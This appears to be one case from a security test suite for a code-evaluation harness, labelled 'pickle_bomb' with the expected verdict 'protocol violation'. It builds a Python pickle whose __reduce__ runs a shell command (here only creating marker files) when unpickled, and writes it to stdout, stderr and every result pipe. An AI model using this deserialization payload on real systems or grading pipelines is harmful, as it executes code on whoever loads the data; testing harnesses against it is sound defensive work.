# 7 pickle_bomb
# attempts: sends a pickle that runs a program when it is read, on every channel that it has
# required: FORGE-IGNORED
# verdict: protocol violation
import os
import pickle
from attack import custom_kernel, result_pipes


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@ @VICTIM@/open/@MARK@",)


for number in [1, 2, *result_pipes()]:
    os.write(number, pickle.dumps(Bomb()) + b"\n")
